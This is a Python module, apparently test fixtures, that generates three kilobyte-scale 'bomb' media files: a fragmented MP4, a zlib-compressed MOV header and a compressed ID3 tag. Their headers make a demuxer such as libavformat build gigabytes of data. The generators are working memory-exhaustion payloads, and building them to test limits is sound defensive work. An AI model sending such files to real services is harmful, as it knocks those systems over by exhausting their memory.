"""Files of a few kB whose headers make a demuxer build gigabytes, as libavformat really does."""

from __future__ import annotations

import struct
import zlib

_UNITY = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
_RATE_HZ = 16_000


def _box(kind: bytes, *parts: bytes) -> bytes:
    data = b"".join(parts)
    return struct.pack(">I", 8 + len(data)) + kind + data


def _full(kind: bytes, flags: int, *parts: bytes) -> bytes:
    return _box(kind, struct.pack(">I", flags), *parts)


def _moov(*more: bytes) -> bytes:
    """Of one AAC track without samples."""
    head = _full(
        b"mvhd", 0, struct.pack(">IIII", 0, 0, 1000, 1000), struct.pack(">IH", 0x10000, 0x100),
        bytes(10), _UNITY, bytes(24), struct.pack(">I", 2),
    )  # fmt: skip
    track_head = _full(
        b"tkhd", 7, struct.pack(">IIIII", 0, 0, 1, 0, 1000), bytes(8),
        struct.pack(">HHHH", 0, 0, 0x100, 0), _UNITY, bytes(8),
    )  # fmt: skip
    times = _full(b"mdhd", 0, struct.pack(">IIIIHH", 0, 0, _RATE_HZ, _RATE_HZ, 0x55C4, 0))
    handler = _full(b"hdlr", 0, bytes(4), b"soun", bytes(12), b"a\0")
    entry = struct.pack(">I4s6xH8xHHHHI", 36, b"mp4a", 1, 1, 16, 0, 0, _RATE_HZ << 16)
    table = _box(
        b"stbl", _full(b"stsd", 0, struct.pack(">I", 1), entry),
        *(_full(kind, 0, bytes(size)) for kind, size in
          ((b"stts", 4), (b"stsc", 4), (b"stsz", 8), (b"stco", 4))),
    )  # fmt: skip
    place = _box(b"dinf", _full(b"dref", 0, struct.pack(">I", 1), _full(b"url ", 1)))
    media = _box(
        b"mdia", times, handler, _box(b"minf", _full(b"smhd", 0, bytes(4)), place, table)
    )  # fmt: skip
    return _box(b"moov", head, _box(b"trak", track_head, media), *more)


def fragments(num_samples: int = 1_000_000, num_fragments: int = 100) -> bytes:
    """An MP4 of fragments that each state samples and give nothing of them: 11 kB, 2.4 GB."""
    usual = _full(b"trex", 0, struct.pack(">IIIII", 1, 1, 1024, 4, 0))
    parts = [_box(b"ftyp", b"isom\0\0\2\0isomiso2mp41"), _moov(_box(b"mvex", usual))]
    for number in range(1, num_fragments + 1):
        of_track = _full(b"tfhd", 0x20000, struct.pack(">I", 1))
        run = _full(b"trun", 0, struct.pack(">I", num_samples))
        parts.append(
            _box(
                b"moof", _full(b"mfhd", 0, struct.pack(">I", number)), _box(b"traf", of_track, run)
            )
        )
    return b"".join([*parts, _box(b"mdat", bytes(4096))])


def _zeros(num_mib: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(num_mib)) + packer.flush()


def compressed_header(num_mib: int = 1500) -> bytes:
    """A MOV whose header is compressed: 1.5 MB, 1.5 GB."""
    size = struct.pack(">I", num_mib << 20)
    inner = _box(b"dcom", b"zlib") + _box(b"cmvd", size, _zeros(num_mib))
    return _box(b"ftyp", b"qt  \0\0\2\0qt  ") + _box(b"moov", _box(b"cmov", inner))


def _seven_bits(number: int) -> bytes:
    return bytes(number >> shift & 0x7F for shift in (21, 14, 7, 0))


def compressed_tag(num_mib: int = 250) -> bytes:
    """An ID3 tag whose text is compressed: 255 kB, 250 MB."""
    packed = _zeros(num_mib)
    stated = _seven_bits((1 << 28) - 1)
    text = b"TXXX" + _seven_bits(len(packed) + 4) + b"\0\x09" + stated + packed
    return b"ID3\4\0\0" + _seven_bits(len(text)) + text


BOMBS = {
    "fragments": fragments,
    "a compressed header": compressed_header,
    "a compressed tag": compressed_tag,
}
